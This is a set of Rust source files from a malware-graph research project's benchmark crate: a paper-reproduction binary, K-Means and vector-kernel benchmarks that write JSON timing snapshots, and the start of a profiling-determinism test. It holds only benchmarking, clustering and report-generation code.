    let path = if quick { "BENCH_PR7_quick.json" } else { "BENCH_PR7.json" };
    std::fs::write(path, report.to_pretty() + "\n").unwrap_or_else(|e| panic!("write {path}: {e}"));
    eprintln!("wrote {path}");
}

/// Prints one pass's per-section best times.
fn report_pass(ids: &[&str], ms: &[f64]) {
    for (id, ms) in ids.iter().zip(ms) {
        eprintln!("  {id:<12} {ms:8.0} ms");
    }
}
