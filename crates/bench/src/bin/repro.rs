//! Regenerates the paper's tables and figures.
//!
//! ```text
//! repro [--seed N] [--scale F] [--threads N] [--uncached] [--out PATH] [ids…]
//! ```
//!
//! Without ids, every experiment plus the extension sections runs. With
//! `--out`, the full report is also written as Markdown (used to refresh
//! `EXPERIMENTS.md`). `--threads` fans the sections out over scoped
//! worker threads (the report is byte-identical at any thread count);
//! `--uncached` switches to the serial reference mode that recomputes
//! every query from scratch.

use malgraph_bench::{AnalyzeMode, Repro, EXPERIMENTS, EXTENSIONS};
use std::io::Write as _;

// Counting allocator, as in the malgraph CLI: the regenerated report's
// profile appendix attributes allocation bytes per pipeline stage.
#[global_allocator]
static ALLOC: obs::alloc::CountingAlloc = obs::alloc::CountingAlloc::new();

fn main() {
    let mut seed = 42u64;
    let mut scale = 1.0f64; // the full paper-scale corpus runs in under a minute
    let mut threads = 1usize;
    let mut mode = AnalyzeMode::Indexed;
    let mut out_path: Option<String> = None;
    let mut check = false;
    let mut ids: Vec<String> = Vec::new();

    let mut args = std::env::args().skip(1);
    while let Some(arg) = args.next() {
        match arg.as_str() {
            "--seed" => {
                seed = args
                    .next()
                    .and_then(|v| v.parse().ok())
                    .unwrap_or_else(|| die("--seed needs an integer"));
            }
            "--scale" => {
                scale = args
                    .next()
                    .and_then(|v| v.parse().ok())
                    .unwrap_or_else(|| die("--scale needs a float in (0,1]"));
            }
            "--threads" => {
                threads = args
                    .next()
                    .and_then(|v| v.parse().ok())
                    .unwrap_or_else(|| die("--threads needs a positive integer"));
            }
            "--uncached" => mode = AnalyzeMode::Uncached,
            "--out" => {
                out_path = Some(args.next().unwrap_or_else(|| die("--out needs a path")));
            }
            "--check" => check = true,
            "--help" | "-h" => {
                eprintln!(
                    "usage: repro [--seed N] [--scale F] [--threads N] [--uncached] \
                     [--out PATH] [--check] [ids…]"
                );
                eprintln!("experiments: {}", EXPERIMENTS.join(" "));
                eprintln!("extensions:  {}", EXTENSIONS.join(" "));
                return;
            }
            id => ids.push(id.to_string()),
        }
    }
    if ids.is_empty() {
        ids = EXPERIMENTS.iter().map(|s| s.to_string()).collect();
        ids.extend(EXTENSIONS.iter().map(|s| s.to_string()));
    }

    eprintln!("generating world (seed {seed}, scale {scale}) and building MALGRAPH…");
    obs::alloc::enable_tracking();
    let repro = Repro::with_mode(seed, scale, mode);
    eprintln!(
        "corpus: {} packages, {} reports, {} graph nodes",
        repro.dataset.packages.len(),
        repro.dataset.reports.len(),
        repro.graph.graph.node_count()
    );

    let id_refs: Vec<&str> = ids.iter().map(String::as_str).collect();
    let mut full = String::new();
    let analyze_span = obs::span!("analyze");
    let sections = repro.run_all(&id_refs, threads);
    let analyze_elapsed = analyze_span.finish();
    for section in &sections {
        println!("{section}");
        full.push_str(section);
        full.push('\n');
    }

    // Per-section wall times from the `analyze/{id}` spans (worker wall
    // time when `--threads` fans out, so the numbers stay comparable).
    let section_ms: Vec<(String, f64)> = ids
        .iter()
        .map(|id| {
            let us = obs::span_total_micros(&format!("analyze/{id}"));
            (id.clone(), us as f64 / 1e3)
        })
        .collect();
    {
        let mut ranked: Vec<&(String, f64)> = section_ms.iter().collect();
        ranked.sort_by(|a, b| b.1.total_cmp(&a.1));
        let line: Vec<String> = ranked
            .iter()
            .take(5)
            .map(|(id, ms)| format!("{id} {ms:.0}ms"))
            .collect();
        eprintln!("slowest sections: {}", line.join(" · "));
    }

    let t = &repro.timings;
    let timings_line = format!(
        "per-stage wall times: world {:.2?} · collect {:.2?} · build {:.2?} \
         (similarity {:.2?}) · analyze {:.2?}",
        t.world, t.collect, t.build, t.similarity, analyze_elapsed
    );
    eprintln!("{timings_line}");

    if check {
        println!("== acceptance checks (paper bands)");
        let checks = repro.checks();
        let mut failed = 0usize;
        for c in &checks {
            println!(
                "[{}] {} {}",
                if c.pass { "PASS" } else { "FAIL" },
                c.name,
                if c.detail.is_empty() { String::new() } else { format!("— {}", c.detail) }
            );
            if !c.pass {
                failed += 1;
            }
        }
        println!("{} of {} checks passed", checks.len() - failed, checks.len());
        if failed > 0 {
            std::process::exit(1);
        }
    }

    if let Some(path) = out_path {
        let mut md = String::from(
            "# EXPERIMENTS — paper vs. measured\n\n\
             Regenerated by `cargo run -p malgraph-bench --bin repro --release -- --out EXPERIMENTS.md`.\n\
             Each section header carries the paper's reported values in brackets; the body\n\
             is what this reproduction measures on the calibrated simulated corpus\n",
        );
        md.push_str(&format!("(seed {seed}, scale {scale}).\n\n```text\n"));
        md.push_str(&full);
        md.push_str("```\n");
        md.push_str(&timing_appendix(&section_ms, threads, mode));
        md.push_str(&bench_appendix(&path));
        md.push_str(&profile_appendix(&obs::snapshot()));
        md.push_str(&sentinel_appendix(&path));
        md.push_str(&format!("\nLast run {timings_line}.\n"));
        let mut file = std::fs::File::create(&path)
            .unwrap_or_else(|e| die(&format!("cannot create {path}: {e}")));
        file.write_all(md.as_bytes())
            .unwrap_or_else(|e| die(&format!("cannot write {path}: {e}")));
        eprintln!("wrote {path}");
    }
}

/// Per-section timing appendix: the `analyze/{id}` span totals of this
/// run, slowest first, so the regenerated EXPERIMENTS.md records where
/// analyze time goes alongside what it produces.
fn timing_appendix(section_ms: &[(String, f64)], threads: usize, mode: AnalyzeMode) -> String {
    let mut md = String::from(
        "\n## Analyze timings — per section\n\n\
         Wall time spent inside each section's `analyze/{id}` span during this run\n\
         (worker wall time under `--threads`), slowest first.\n\n```text\n",
    );
    md.push_str(&format!(
        "mode {:?} · {} worker thread(s)\n{:<12} {:>10}\n",
        mode, threads, "section", "ms"
    ));
    let mut ranked: Vec<&(String, f64)> = section_ms.iter().collect();
    ranked.sort_by(|a, b| b.1.total_cmp(&a.1));
    for (id, ms) in ranked {
        md.push_str(&format!("{id:<12} {ms:>10.1}\n"));
    }
    let total: f64 = section_ms.iter().map(|(_, ms)| ms).sum();
    md.push_str(&format!("{:<12} {total:>10.1}\n", "sum"));
    md.push_str("```\n");
    md
}

/// Perf-trajectory appendix: the engine-benchmark snapshots
/// (`BENCH_PR1.json`, `BENCH_PR6.json`, `BENCH_PR7.json`) rendered as
/// rows next to the
/// paper tables, so one regenerated EXPERIMENTS.md carries both "does it
/// reproduce the paper" and "how fast does it do so". Snapshots are
/// looked up beside the output file; absent ones are skipped, so the
/// report never fails just because a bench binary has not been run.
fn bench_appendix(out_path: &str) -> String {
    let dir = std::path::Path::new(out_path)
        .parent()
        .filter(|p| !p.as_os_str().is_empty())
        .map_or_else(|| std::path::PathBuf::from("."), std::path::Path::to_path_buf);
    let load = |name: &str| -> Option<jsonio::Value> {
        let text = std::fs::read_to_string(dir.join(name)).ok()?;
        match jsonio::Value::parse(&text) {
            Ok(v) => Some(v),
            Err(e) => {
                eprintln!("warning: skipping unparseable {name}: {e:?}");
                None
            }
        }
    };
    let f = |row: &jsonio::Value, key: &str| row.get(key).and_then(|v| v.as_f64()).unwrap_or(0.0);
    let u = |row: &jsonio::Value, key: &str| row.get(key).and_then(|v| v.as_u64()).unwrap_or(0);

    let mut md = String::new();
    let mut body = String::new();

    if let Some(pr1) = load("BENCH_PR1.json") {
        body.push_str(&format!(
            "== BENCH_PR1 — K-Means engines (dim {}, k {}, {} host thread(s))\n\
             {:>6}  {:>10}  {:>11}  {:>9}  {:>6}  {:>6}\n",
            u(&pr1, "dim"),
            u(&pr1, "k"),
            u(&pr1, "host_threads"),
            "n", "serial ms", "parallel ms", "warm ms", "par x", "warm x"
        ));
        for row in pr1.get("results").and_then(|v| v.as_array()).unwrap_or(&[]) {
            body.push_str(&format!(
                "{:>6}  {:>10.0}  {:>11.0}  {:>9.0}  {:>6.2}  {:>6.2}\n",
                u(row, "n"),
                f(row, "serial_ms"),
                f(row, "parallel_ms"),
                f(row, "parallel_warm_ms"),
                f(row, "speedup_parallel"),
                f(row, "speedup_parallel_warm")
            ));
        }
        body.push('\n');
    }

    if let Some(pr6) = load("BENCH_PR6.json") {
        body.push_str(&format!(
            "== BENCH_PR6 — vector kernels, assignment + refinement, identical output \
             (dim {}, nnz ~{}, k {}, threshold {:.2})\n\
             {:>6}  {:>9}  {:>9}  {:>9}  {:>7}  {:>7}  {:>9}  {:>8}\n",
            u(&pr6, "dim"),
            u(&pr6, "nnz"),
            u(&pr6, "k"),
            f(&pr6, "threshold"),
            "n", "dense ms", "tiled ms", "quant ms", "tiled x", "quant x", "screened", "rescored"
        ));
        for row in pr6.get("results").and_then(|v| v.as_array()).unwrap_or(&[]) {
            body.push_str(&format!(
                "{:>6}  {:>9.0}  {:>9.0}  {:>9.0}  {:>7.2}  {:>7.2}  {:>9}  {:>8}\n",
                u(row, "n"),
                f(row, "total_dense_scalar_ms"),
                f(row, "total_tiled_ms"),
                f(row, "total_tiled_quant_ms"),
                f(row, "speedup_tiled"),
                f(row, "speedup_tiled_quant"),
                u(row, "pairs_screened"),
                u(row, "pairs_rescored")
            ));
        }
        body.push('\n');
    }

    if let Some(pr7) = load("BENCH_PR7.json") {
        body.push_str(&format!(
            "== BENCH_PR7 — analysis harness, indexed vs uncached, identical reports \
             (seed {}, scale {}, {} host thread(s))\n\
             {:<12}  {:>11}  {:>10}  {:>7}\n",
            u(&pr7, "seed"),
            f(&pr7, "scale"),
            u(&pr7, "host_threads"),
            "section", "uncached ms", "indexed ms", "speedup"
        ));
        for row in pr7.get("results").and_then(|v| v.as_array()).unwrap_or(&[]) {
            body.push_str(&format!(
                "{:<12}  {:>11.0}  {:>10.0}  {:>7.2}\n",
                row.get("id").and_then(|v| v.as_str()).unwrap_or("?"),
                f(row, "uncached_ms"),
                f(row, "indexed_ms"),
                f(row, "speedup")
            ));
        }
        body.push_str(&format!(
            "{:<12}  {:>11.0}  {:>10.0}  {:>7.2}   ({}-thread total {:.0} ms)\n",
            "total",
            f(&pr7, "uncached_total_ms"),
            f(&pr7, "indexed_total_ms"),
            f(&pr7, "speedup_indexed"),
            u(&pr7, "threads"),
            f(&pr7, "indexed_parallel_ms")
        ));
        if f(&pr7, "seed_analyze_ms") > 0.0 {
            body.push_str(&format!(
                "vs pre-index analyze stage ({:.1} s recorded at the seed): {:.2}x\n",
                f(&pr7, "seed_analyze_ms") / 1e3,
                f(&pr7, "speedup_vs_seed")
            ));
        }
        body.push('\n');
    }

    if !body.is_empty() {
        md.push_str(
            "\n## Perf trajectory — engine benchmark snapshots\n\n\
             Rebuilt from `BENCH_PR1.json` / `BENCH_PR6.json` / `BENCH_PR7.json` beside\n\
             this file (regenerate them with the `kmeans_bench`, `kernel_bench` and\n\
             `analyze_bench` release binaries). The PR-6 columns are end-to-end\n\
             assignment + cosine refinement; the PR-7 columns are full analysis\n\
             sections; every mode is asserted bitwise-identical before its time is\n\
             reported.\n\n```text\n",
        );
        md.push_str(body.trim_end_matches('\n'));
        md.push_str("\n```\n");
    }
    md
}

/// Profiling appendix: the folded self-time profile of this very run
/// (`parent;child self_µs`, the format `flamegraph.pl` / inferno read),
/// heaviest frames first, plus the heaviest allocation sites from the
/// counting allocator. This is the pipeline flamegraph in text form —
/// feed `malgraph <cmd> --profile-out` output to a flamegraph tool for
/// the graphical version.
fn profile_appendix(snapshot: &obs::Snapshot) -> String {
    if snapshot.folded.is_empty() {
        return String::new();
    }
    let mut md = String::from(
        "\n## Pipeline profile — folded self-time stacks\n\n\
         The folded self-time profile of the run that produced this report, captured\n\
         by the obs registry (each line is `stack self_µs`, the flamegraph.pl /\n\
         inferno input format; `malgraph … --profile-out` writes the same thing).\n\
         Self time is wall time inside a span minus its children, so the lines sum\n\
         to real pipeline time with no double counting. Heaviest frames first,\n\
         allocation churn (bytes requested, frees not subtracted) alongside.\n\n```text\n",
    );
    let mut by_self: Vec<&obs::FoldedFrame> = snapshot.folded.iter().collect();
    by_self.sort_by(|a, b| b.self_us.cmp(&a.self_us).then_with(|| a.stack.cmp(&b.stack)));
    let total_self: u64 = snapshot.folded.iter().map(|f| f.self_us).sum();
    md.push_str(&format!(
        "{:>10}  {:>5}  {:>10}  {:>9}  stack\n",
        "self µs", "%", "alloc", "allocs"
    ));
    for frame in by_self.iter().take(14) {
        let pct = if total_self == 0 { 0.0 } else { frame.self_us as f64 * 100.0 / total_self as f64 };
        md.push_str(&format!(
            "{:>10}  {:>4.1}%  {:>10}  {:>9}  {}\n",
            frame.self_us,
            pct,
            fmt_bytes(frame.alloc_bytes),
            frame.allocs,
            frame.stack
        ));
    }
    if by_self.len() > 14 {
        let rest: u64 = by_self.iter().skip(14).map(|f| f.self_us).sum();
        md.push_str(&format!(
            "{:>10}  {:>4.1}%  {:>10}  {:>9}  … {} more frames\n",
            rest,
            if total_self == 0 { 0.0 } else { rest as f64 * 100.0 / total_self as f64 },
            "",
            "",
            by_self.len() - 14
        ));
    }
    md.push_str("```\n");
    md
}

fn fmt_bytes(b: u64) -> String {
    match b {
        0..=1023 => format!("{b}B"),
        1024..=1048575 => format!("{:.1}KiB", b as f64 / 1024.0),
        1048576..=1073741823 => format!("{:.1}MiB", b as f64 / 1048576.0),
        _ => format!("{:.2}GiB", b as f64 / 1073741824.0),
    }
}

/// Perf-sentinel appendix: demonstrates the regression gate on live data
/// by diffing a quick-bench snapshot against itself (clean pass) and then
/// against a copy with one timing inflated 25% (caught, non-zero exit in
/// the CLI). This is exactly what `ci.sh`'s perf_gate step runs via
/// `malgraph perf diff baselines/<bench>.json <bench>.json`.
fn sentinel_appendix(out_path: &str) -> String {
    let dir = std::path::Path::new(out_path)
        .parent()
        .filter(|p| !p.as_os_str().is_empty())
        .map_or_else(|| std::path::PathBuf::from("."), std::path::Path::to_path_buf);
    let Some((name, text)) = ["BENCH_PR8_quick.json", "BENCH_PR7_quick.json", "BENCH_PR6_quick.json"]
        .iter()
        .find_map(|n| std::fs::read_to_string(dir.join(n)).ok().map(|t| (*n, t)))
    else {
        return String::new();
    };
    let Ok(base) = obs::baseline::PerfProfile::from_json_str(name, &text) else {
        return String::new();
    };
    let thresholds = obs::baseline::Thresholds::default();

    // A clean self-diff, then the same diff with the largest timing
    // inflated 25% — past the 10% relative and 500 ms absolute gates.
    let clean = obs::baseline::diff(&base, &base, &thresholds);
    let mut slow = base.clone();
    slow.label = format!("{name} (+25% injected)");
    if let Some((_, m)) = slow
        .entries
        .iter_mut()
        .filter(|(_, m)| matches!(m.kind, obs::baseline::MetricKind::Time { .. }))
        .max_by(|a, b| {
            let us = |e: &(String, obs::baseline::Metric)| match e.1.kind {
                obs::baseline::MetricKind::Time { us_per_unit } => e.1.value * us_per_unit,
                _ => 0.0,
            };
            us(a).total_cmp(&us(b))
        })
    {
        m.value *= 1.25;
    }
    let caught = obs::baseline::diff(&base, &slow, &thresholds);

    let mut md = String::from(
        "\n## Perf sentinel — the regression gate, demonstrated\n\n\
         `malgraph perf diff` compares two snapshots (obs metrics or `BENCH_*.json`)\n\
         and fails when a metric worsens by more than the relative threshold AND the\n\
         absolute noise floor. Below: the checked-in quick-bench snapshot diffed\n\
         against itself (clean), then against a copy with its largest timing\n\
         inflated 25% — the injected regression the gate exists to catch. The same\n\
         check runs in `ci.sh` (perf_gate) against `baselines/`.\n\n```text\n",
    );
    md.push_str(clean.render(false).trim_end_matches('\n'));
    md.push_str("\n\n");
    md.push_str(caught.render(false).trim_end_matches('\n'));
    md.push_str("\n```\n");
    md
}

fn die(msg: &str) -> ! {
    eprintln!("error: {msg}");
    std::process::exit(2);
}
