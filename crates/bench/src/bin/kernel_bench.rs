//! One-shot wall-time comparison of the similarity-pipeline vector
//! kernels, written to `BENCH_PR6.json` — the perf-trajectory record for
//! the cache-tiled sparse kernels and the certified i8 screen (ISSUE 6),
//! next to the PR-1 engine numbers in `BENCH_PR1.json`.
//!
//! Measures, at the paper's dim = 3072 / nnz ≈ 350 embedding shape with
//! k = 64, for n ∈ {1000, 5000, 20000}, the two hot phases of
//! `similar_pairs` — K-Means assignment and within-cluster cosine
//! refinement — under each [`cluster::Kernel`]:
//!
//! * `dense_scalar` — the pre-PR-6 path: dense row-major matrix, straight
//!   scalar dots in assignment, dense dots over 12 KB rows in refinement;
//! * `tiled` — cache-tiled assignment over the sparse CSR rows,
//!   gather-based sparse·dense dots in refinement;
//! * `tiled_quant` — `tiled` plus the certified i8 screen: provably-losing
//!   candidates skipped, survivors rescored in exact f32.
//!
//! All three modes are asserted to produce **identical** assignments and
//! pair sets before any number is reported — the speedups are for the
//! same answer, not an approximation of it.
//!
//! ```text
//! cargo run -p malgraph-bench --bin kernel_bench --release [-- --quick]
//! ```
//!
//! `--quick` runs only n = 1000 with a reduced iteration budget (the CI
//! smoke configuration, well under a minute).

use cluster::matrix::{dense_dot, sparse_dot_dense};
use cluster::{kmeans_points, KMeansConfig, Kernel, KMeansResult, Points};
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use std::time::Instant;

const DIM: usize = 3072;
const NNZ: usize = 350;
const K: usize = 64;
const THRESHOLD: f32 = 0.92;
/// Members per synthetic code family (mutated variants of one base).
const FAMILY: usize = 8;
/// Indices re-pointed per family member — keeps intra-family cosine
/// above [`THRESHOLD`] while making every vector distinct.
const MUTATED: usize = 18;

/// Family-structured sparse unit vectors: each family shares a base
/// support with per-member index swaps and value jitter, mimicking the
/// embedder's output over mutated malware variants. Intra-family pairs
/// land above the refinement threshold, cross-family pairs near zero —
/// the regime the i8 screen is built for.
fn family_rows(n: usize, seed: u64) -> Vec<(Vec<u32>, Vec<f32>)> {
    let mut rng = StdRng::seed_from_u64(seed);
    let mut mask = vec![false; DIM];
    let mut out: Vec<(Vec<u32>, Vec<f32>)> = Vec::with_capacity(n);
    while out.len() < n {
        // Base support + values for this family.
        mask.iter_mut().for_each(|m| *m = false);
        let mut placed = 0;
        while placed < NNZ {
            let i = rng.gen_range(0..DIM);
            if !mask[i] {
                mask[i] = true;
                placed += 1;
            }
        }
        let base_idx: Vec<u32> = (0..DIM as u32).filter(|&i| mask[i as usize]).collect();
        let base_val: Vec<f32> = (0..NNZ).map(|_| rng.gen_range(-1.0f32..1.0)).collect();
        for _ in 0..FAMILY.min(n - out.len()) {
            let mut pairs: Vec<(u32, f32)> = base_idx
                .iter()
                .zip(&base_val)
                .map(|(&i, &v)| (i, v * (1.0 + rng.gen_range(-0.2f32..0.2))))
                .collect();
            for _ in 0..MUTATED {
                let slot = rng.gen_range(0..pairs.len());
                loop {
                    let candidate = rng.gen_range(0..DIM) as u32;
                    if !mask[candidate as usize] {
                        mask[pairs[slot].0 as usize] = false;
                        mask[candidate as usize] = true;
                        pairs[slot].0 = candidate;
                        break;
                    }
                }
            }
            pairs.sort_unstable_by_key(|&(i, _)| i);
            let norm = pairs.iter().map(|&(_, v)| v * v).sum::<f32>().sqrt();
            let indices: Vec<u32> = pairs.iter().map(|&(i, _)| i).collect();
            let values: Vec<f32> = pairs.iter().map(|&(_, v)| v / norm).collect();
            // Restore the family mask for the next member's swaps.
            for &(i, _) in &pairs {
                mask[i as usize] = false;
            }
            for &i in &base_idx {
                mask[i as usize] = true;
            }
            out.push((indices, values));
        }
    }
    out
}

/// Best-of-`reps` wall time; the result of the last repetition rides
/// along (the usual guard against scheduler noise).
fn millis<R>(reps: usize, mut f: impl FnMut() -> R) -> (f64, R) {
    let mut best = f64::INFINITY;
    let mut out = None;
    for _ in 0..reps.max(1) {
        let started = Instant::now();
        out = Some(f());
        best = best.min(started.elapsed().as_secs_f64() * 1e3);
    }
    (best, out.expect("reps >= 1"))
}

fn assignment(points: &Points, kernel: Kernel, max_iters: usize) -> KMeansResult {
    let config = KMeansConfig {
        max_iters,
        tolerance: 1e-3,
        threads: 1,
        kernel,
        ..KMeansConfig::default()
    };
    let mut rng = StdRng::seed_from_u64(7);
    kmeans_points(points, K, &config, &mut rng)
}

/// The within-cluster cosine refinement of `similar_pairs`, phase 3,
/// under the given kernel. Returns the (sorted) accepted pair list plus
/// screen tallies.
fn refinement(
    points: &Points,
    assignments: &[usize],
    kernel: Kernel,
) -> (Vec<(usize, usize)>, u64, u64) {
    let k = assignments.iter().copied().max().map_or(0, |m| m + 1);
    let mut clusters: Vec<Vec<usize>> = vec![Vec::new(); k];
    for (i, &a) in assignments.iter().enumerate() {
        clusters[a].push(i);
    }
    let quant = (kernel == Kernel::TiledQuantized).then(|| points.quant());
    let (matrix, sparse) = (points.matrix(), points.sparse());
    let mut pairs = Vec::new();
    let (mut pruned, mut rescored) = (0u64, 0u64);
    for members in &clusters {
        for (x, &a) in members.iter().enumerate() {
            for &b in &members[x + 1..] {
                if let Some(q) = quant {
                    if q.pair_upper_bound(a, q, b) < f64::from(THRESHOLD) {
                        pruned += 1;
                        continue;
                    }
                }
                rescored += 1;
                let dot = match kernel {
                    Kernel::DenseScalar => dense_dot(matrix.row(a), matrix.row(b)),
                    _ => {
                        let (ai, av) = sparse.row(a);
                        sparse_dot_dense(ai, av, matrix.row(b))
                    }
                };
                if dot.clamp(-1.0, 1.0) >= THRESHOLD {
                    pairs.push((a, b));
                }
            }
        }
    }
    pairs.sort_unstable();
    (pairs, pruned, rescored)
}

fn main() {
    let quick = std::env::args().any(|a| a == "--quick");
    let host_threads = std::thread::available_parallelism()
        .map(|n| n.get())
        .unwrap_or(1);
    let sizes: &[(usize, usize, usize)] = if quick {
        &[(1000, 4, 1)]
    } else {
        &[(1000, 8, 2), (5000, 6, 2), (20000, 5, 1)]
    };
    let kernels = [
        ("dense_scalar", Kernel::DenseScalar),
        ("tiled", Kernel::Tiled),
        ("tiled_quant", Kernel::TiledQuantized),
    ];

    let mut rows = Vec::new();
    for &(n, max_iters, reps) in sizes {
        eprintln!("n = {n} (dim {DIM}, nnz ~{NNZ}, k {K}, max_iters {max_iters})…");
        let data = family_rows(n, n as u64);
        let refs: Vec<(&[u32], &[f32])> = data
            .iter()
            .map(|(i, v)| (i.as_slice(), v.as_slice()))
            .collect();
        let points = Points::from_sparse_rows(DIM, &refs);

        // Per mode: (assign_ms, refine_ms, iterations, pruned, rescored).
        let mut stats = [(0.0f64, 0.0f64, 0usize, 0u64, 0u64); 3];
        type Baseline = (Vec<usize>, Vec<(usize, usize)>);
        let mut baseline: Option<Baseline> = None;
        let mut pairs_found = 0usize;
        for (m, &(name, kernel)) in kernels.iter().enumerate() {
            let (assign_ms, res) = millis(reps, || assignment(&points, kernel, max_iters));
            let (refine_ms, (pairs, pruned, rescored)) =
                millis(reps, || refinement(&points, &res.assignments, kernel));
            // Bitwise-equivalence gate: every mode must answer the
            // identical question before its time is worth reporting.
            match &baseline {
                None => baseline = Some((res.assignments.clone(), pairs.clone())),
                Some((assignments, ref_pairs)) => {
                    assert_eq!(assignments, &res.assignments, "{name}: assignments diverged");
                    assert_eq!(ref_pairs, &pairs, "{name}: pair set diverged");
                }
            }
            eprintln!(
                "  {name:>12}: assign {assign_ms:7.0} ms ({} iters) · refine {refine_ms:6.0} ms \
                 ({} pairs, {pruned} screened, {rescored} rescored)",
                res.iterations,
                pairs.len()
            );
            stats[m] = (assign_ms, refine_ms, res.iterations, pruned, rescored);
            pairs_found = pairs.len();
        }
        let total = |m: usize| stats[m].0 + stats[m].1;
        rows.push(jsonio::object! {
            "n": n,
            "max_iters": max_iters,
            "iterations": stats[0].2,
            "pairs_found": pairs_found,
            "assign_dense_scalar_ms": stats[0].0,
            "refine_dense_scalar_ms": stats[0].1,
            "total_dense_scalar_ms": total(0),
            "assign_tiled_ms": stats[1].0,
            "refine_tiled_ms": stats[1].1,
            "total_tiled_ms": total(1),
            "assign_tiled_quant_ms": stats[2].0,
            "refine_tiled_quant_ms": stats[2].1,
            "total_tiled_quant_ms": total(2),
            "pairs_screened": stats[2].3,
            "pairs_rescored": stats[2].4,
            "speedup_tiled": total(0) / total(1),
            "speedup_tiled_quant": total(0) / total(2),
        });
    }

    let report = jsonio::object! {
        "bench": "vector_kernels",
        "issue": "PR6: cache-tiled sparse kernels and certified i8 screen",
        "dim": DIM,
        "nnz": NNZ,
        "k": K,
        "threshold": f64::from(THRESHOLD),
        "quick": quick,
        "host_threads": host_threads,
        "note": "assign = Lloyd at fixed k per kernel; refine = within-cluster \
                   cosine pass; all modes asserted bitwise-identical before timing \
                   is reported",
        "results": jsonio::Value::Array(rows),
    };
    let path = if quick { "BENCH_PR6_quick.json" } else { "BENCH_PR6.json" };
    std::fs::write(path, report.to_pretty() + "\n").unwrap_or_else(|e| panic!("write {path}: {e}"));
    eprintln!("wrote {path}");
}
