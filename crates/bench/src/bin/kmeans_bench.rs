//! One-shot wall-time comparison of the K-Means engines, written to
//! `BENCH_PR1.json` — the perf-trajectory baseline for the parallel,
//! warm-started engine (ISSUE 1).
//!
//! Measures, at dim = 1024 and k = 64 for n ∈ {1000, 5000, 20000}:
//!
//! * `serial_ms` — the retained seed implementation
//!   ([`cluster::serial::kmeans`]): naive distances, one thread;
//! * `parallel_ms` — the new engine ([`cluster::kmeans`]): norm-cached
//!   pruned distances, chunked parallel passes;
//! * `parallel_warm_ms` — one grow-k schedule step on the new engine:
//!   reaching k warm-started from the k−16 centroids
//!   ([`cluster::kmeans_warm`]), which is what `similar_pairs` pays per
//!   step instead of a cold restart.
//!
//! ```text
//! cargo run -p malgraph-bench --bin kmeans_bench --release
//! ```

use cluster::{kmeans, kmeans_warm, serial, KMeansConfig};
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use std::time::Instant;

const DIM: usize = 1024;
const K: usize = 64;
const WARM_EXTRA: usize = 16;

/// Overlapping clusters (noise comparable to center spread): Lloyd has
/// real work to do, like on embedding corpora, instead of converging in
/// two iterations on trivially-separated blobs.
fn blob_data(n: usize, centers: usize, seed: u64) -> Vec<Vec<f32>> {
    let mut rng = StdRng::seed_from_u64(seed);
    let centroids: Vec<Vec<f32>> = (0..centers)
        .map(|_| (0..DIM).map(|_| rng.gen_range(-1.0f32..1.0)).collect())
        .collect();
    (0..n)
        .map(|i| {
            let c = &centroids[i % centers];
            c.iter().map(|v| v + rng.gen_range(-0.6f32..0.6)).collect()
        })
        .collect()
}

/// Best-of-`reps` wall time (the usual benchmarking guard against
/// scheduler noise); the result of the last repetition rides along.
fn millis<R>(reps: usize, mut f: impl FnMut() -> R) -> (f64, R) {
    let mut best = f64::INFINITY;
    let mut out = None;
    for _ in 0..reps.max(1) {
        let started = Instant::now();
        out = Some(f());
        best = best.min(started.elapsed().as_secs_f64() * 1e3);
    }
    (best, out.expect("reps >= 1"))
}

fn main() {
    let threads = std::thread::available_parallelism()
        .map(|n| n.get())
        .unwrap_or(1);
    let mut rows = Vec::new();
    for &(n, max_iters) in &[(1000usize, 40usize), (5000, 25), (20000, 10)] {
        eprintln!("n = {n} (dim {DIM}, k {K}, max_iters {max_iters})…");
        let config = KMeansConfig {
            max_iters,
            tolerance: 1e-3,
            ..KMeansConfig::default()
        };
        let data = blob_data(n, 48, n as u64);
        let reps = if n >= 20000 { 2 } else { 3 };

        let (serial_ms, serial_res) = millis(reps, || {
            let mut rng = StdRng::seed_from_u64(1);
            serial::kmeans(&data, K, &config, &mut rng)
        });
        let (parallel_ms, parallel_res) = millis(reps, || {
            let mut rng = StdRng::seed_from_u64(1);
            kmeans(&data, K, &config, &mut rng)
        });
        // The schedule step: the k−16 result exists already (previous
        // step), only the warm continuation is the marginal cost.
        let mut rng = StdRng::seed_from_u64(1);
        let prev = kmeans(&data, K - WARM_EXTRA, &config, &mut rng);
        let (warm_ms, warm_res) = millis(reps, || {
            let mut rng = StdRng::seed_from_u64(2);
            kmeans_warm(&data, &prev.centroids, WARM_EXTRA, &config, &mut rng)
        });

        eprintln!(
            "  serial {serial_ms:.0} ms ({} iters) · parallel {parallel_ms:.0} ms ({} iters) \
             · warm step {warm_ms:.0} ms ({} iters)",
            serial_res.iterations, parallel_res.iterations, warm_res.iterations
        );
        rows.push(jsonio::object! {
            "n": n,
            "serial_ms": serial_ms,
            "serial_iters": serial_res.iterations,
            "parallel_ms": parallel_ms,
            "parallel_iters": parallel_res.iterations,
            "parallel_warm_ms": warm_ms,
            "parallel_warm_iters": warm_res.iterations,
            "speedup_parallel": serial_ms / parallel_ms,
            "speedup_parallel_warm": serial_ms / warm_ms,
        });
    }

    let report = jsonio::object! {
        "bench": "kmeans_engines",
        "issue": "PR1: parallel, warm-started K-Means engine",
        "dim": DIM,
        "k": K,
        "warm_extra": WARM_EXTRA,
        "host_threads": threads,
        "note": "warm rows measure one grow-k schedule step (k-16 -> k), \
                   the marginal cost similar_pairs pays per step",
        "results": jsonio::Value::Array(rows),
    };
    std::fs::write("BENCH_PR1.json", report.to_pretty() + "\n").expect("write BENCH_PR1.json");
    eprintln!("wrote BENCH_PR1.json");
}
