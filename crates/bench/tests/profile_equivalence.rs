//! The profiling determinism contract: under a fake clock, the folded
//! self-time profile of the WHOLE pipeline — world, collect, build with
//! its per-ecosystem similarity workers, and all 23 analysis sections on
//! the parallel harness — is byte-identical at 1 and 7 worker threads.
//!
//! This is the property that makes profiles golden-testable: span
//! contexts propagate into worker threads ([`obs::current_context`]), so
//! a span folds under the same logical parent no matter which OS thread
//! runs it, and lazily built caches root their spans via
//! [`obs::detached`] so the OnceLock race winner cannot reshape the
//! profile.
//!
//! One test function on purpose: the obs registry and its clock are
//! process-global.

use malgraph_bench::{AnalyzeMode, Repro, EXPERIMENTS, EXTENSIONS};
use std::sync::Arc;

const SEED: u64 = 20226;
const SCALE: f64 = 0.05;

/// Runs the full pipeline + analysis under a fake clock and returns the
